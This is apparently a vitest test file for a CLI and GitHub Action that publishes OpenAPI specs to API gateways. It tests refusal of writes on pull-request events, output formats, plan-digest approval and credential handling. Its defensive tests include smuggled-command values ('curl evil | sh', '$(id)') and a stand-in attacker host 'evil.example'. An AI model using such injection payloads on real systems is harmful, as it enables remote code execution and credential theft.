/** Each event × each command: what writes to a gateway is refused where a pull request can cause it (T-14); outputs of each command. */
import { cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli.ts';
import { type CommandName, commandNames } from '../../src/commands/index.ts';
import { outputPatterns, outputsOf } from '../../src/github/outputs.ts';
import { root } from '../support/built.ts';
import { fakeIo } from '../support/io.ts';
import { commit, git } from './repository.ts';
import { annotations, runStep, scratch } from './runner.ts';

/** What each writing command is called with. */
const writing: Partial<Record<CommandName, string[]>> = {
  stage: [],
  publish: [],
  deprecate: ['climbon:1.0.0'],
  retire: ['climbon:1.0.0'],
  archive: ['climbon:1.0.0'],
  restage: ['climbon:1.0.0'],
  online: ['routes:1.0.0'],
  offline: ['routes:1.0.0'],
  remove: ['climbon:1.0.0'],
  replace: ['climbon:0.9.0', 'climbon:1.0.0'],
  supersede: ['climbon:0.9.0', 'climbon:1.0.0'],
  'set-migration-target': ['climbon:0.9.0', 'climbon:1.0.0'],
  'execute-migration-target': ['climbon:0.9.0'],
  rollback: [],
};

const events: [event: string, mayWrite: boolean, payload?: unknown][] = [
  ['pull_request', false],
  ['pull_request_target', false],
  ['pull_request_review', false],
  ['pull_request_review_comment', false],
  ['merge_group', false],
  ['issue_comment', false, { issue: { pull_request: {} } }],
  ['workflow_run', false, { workflow_run: { event: 'pull_request' } }],
  ['workflow_run', true, { workflow_run: { event: 'push' } }],
  ['push', true],
  ['release', true],
  ['workflow_dispatch', true],
  ['schedule', true],
];

function climbing(): string {
  const folder = scratch();
  cpSync(path.join(root, 'examples/climbing'), folder, { recursive: true });
  git(folder, 'init', '--quiet', '--initial-branch=main');
  commit(folder, {});
  return folder;
}

describe.each(events)('%s (may write: %s) (T-14)', (event, mayWrite, payload = {}) => {
  // Of this folder nothing is written: what is not refused for its event is for the gateway, which there is not.
  const folder = path.join(root, 'examples/climbing');
  it.each(Object.entries(writing))('%s', async (command, operands) => {
    const file = path.join(scratch(), 'event.json');
    writeFileSync(file, JSON.stringify(payload));
    const io = fakeIo({ cwd: folder, env: { GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: file } });
    const gateway = mayWrite ? 'nowhere' : 'staging';
    expect(await main([command, ...operands, `--gateway=${gateway}`], io)).toBe(2);
    expect(io.err().includes('nothing is published before it is merged')).toBe(!mayWrite);
    expect(io.err().includes('nowhere')).toBe(mayWrite);
    // Nothing was written: no catalogue, no journal.
    for (const trace of ['catalog', '.specgate']) expect(existsSync(path.join(folder, trace))).toBe(false);
  });
});

describe('every command through the Action', () => {
  it('names all that write in the matrix above', () => {
    const reading = ['check', 'lint', 'diff', 'bump', 'ready', 'plan', 'status', 'render', 'convert', 'list'];
    const terminal = ['merge-reports', 'explain', 'init', 'config', 'completion'];
    const rest = commandNames.filter(name => !(name in writing) && ![...reading, ...terminal].includes(name));
    // For APS alone; its refusal is tested with the gateway.
    expect(rest).toEqual(['cleanup']);
  });

  const gateway = 'staging';
  const runs: [command: string, inputs: Record<string, string>, outputs: string[]][] = [
    ['check', {}, ['open', 'errors', 'warnings', 'breaking', 'required-bump', 'score', 'report-file', 'sarif-file']],
    ['ready', {}, ['open', 'score', 'report-file', 'sarif-file']],
    ['diff', { files: 'a.yaml\nb.yaml' }, ['open', 'errors', 'warnings', 'breaking', 'required-bump', 'next-version']],
    ['bump', { files: 'b.yaml', base: 'a.yaml' }, ['open', 'required-bump', 'next-version', 'report-file']],
    ['list', {}, ['open', 'report-file']],
    ['plan', { gateway }, ['open', 'plan-digest', 'plan-file', 'report-file']],
    ['publish', { gateway, 'dry-run': 'true' }, ['open', 'plan-digest', 'report-file']],
    ['status', { gateway }, ['open', 'report-file']],
    ['render', { gateway, out: 'rendered' }, ['open']],
    ['convert', { files: 'kong\na.yaml' }, ['open']],
    ['explain', { files: 'bc-https-only' }, ['open', 'report-file']],
    ['config', {}, ['open', 'report-file']],
    ['completion', { files: 'bash' }, ['open']],
  ];

  it.each(runs)('%s %j', async (command, inputs, names) => {
    const workspace = climbing();
    const before =
      'openapi: 3.0.3\ninfo: {title: A, version: 1.0.0}\npaths:\n  /a: {get: {responses: {"200": {description: x}}}}\n';
    commit(workspace, { 'a.yaml': before, 'b.yaml': before.replace('/a:', '/b:') });
    const step = await runStep({ workspace, inputs: { command, ...inputs } });
    expect([0, 1]).toContain(step.code);
    expect(Object.keys(step.outputs)).toEqual(expect.arrayContaining(names));
    for (const [name, value] of Object.entries(step.outputs)) {
      expect(value, name).toMatch(outputPatterns[name as keyof typeof outputPatterns]);
    }
    expect(step.summary).not.toBe('');
    for (const { command: name } of annotations(step)) expect(name).toMatch(/^(error|warning|notice)$/);
    if (command === 'diff') {
      expect(step.outputs).toMatchObject({ breaking: 'true', 'required-bump': 'major', 'next-version': '2.0.0' });
    }
  });

  it('publishes on push exactly what was approved (T-17)', async () => {
    const workspace = climbing();
    const plan = await runStep({ workspace, inputs: { command: 'plan', gateway } });
    const digest = plan.outputs['plan-digest']!;
    expect(JSON.parse(readFileSync(plan.outputs['plan-file']!, 'utf8')).digest).toBe(digest);
    const wrong = await runStep({
      workspace,
      inputs: { command: 'publish', gateway, 'plan-digest': `sha256:${'0'.repeat(64)}` },
    });
    expect(wrong.code).toBe(2);
    const done = await runStep({ workspace, inputs: { command: 'publish', gateway, 'plan-digest': digest } });
    expect(done.code).toBe(0);
    expect(done.outputs.open).toBe('true');
  });

  it('takes the origin of credentials from the input gateway-url (T-11)', async () => {
    const workspace = climbing();
    const kong = 'gateways: {k: {type: kong, url: "https://evil.example"}}\n';
    const config = readFileSync(path.join(workspace, 'specgate.yaml'), 'utf8').replace(
      /^gateways:(\n .*)+/m,
      kong.trimEnd(),
    );
    commit(workspace, { 'specgate.yaml': config });
    const step = await runStep({
      workspace,
      inputs: { command: 'plan', gateway: 'k', 'gateway-url': 'https://kong.example' },
      env: { SPECGATE_GATEWAY_TOKEN: 'canary-of-a-token' },
    });
    expect(step.code).toBe(2);
    expect(annotations(step)[0]!.data).toContain('evil.example');
    expect(JSON.stringify(step)).not.toContain('canary-of-a-token');
  });
});

describe('outputs of a hostile report', () => {
  it('are left out where they are more than counts, enums and versions (T-28)', () => {
    const text = '1.0.0"; curl evil | sh; echo "';
    expect(
      outputsOf({
        schema: 'specgate/diff/1',
        changes: [{ level: text }],
        breaking: text,
        requiredBump: text,
        version: { ok: true, revision: text },
      }),
    ).toEqual({ errors: '0', warnings: '0' });
    expect(outputsOf({ schema: 'specgate/bump/1', next: '$(id)', requiredBump: 'major' })).toEqual({
      'required-bump': 'major',
    });
    for (const broken of [null, [], 'x', { schema: 'specgate/check/1', apis: text }, { schema: text }]) {
      for (const [name, value] of Object.entries(outputsOf(broken))) {
        expect(value).toMatch(outputPatterns[name as keyof typeof outputPatterns]);
      }
    }
  });
});
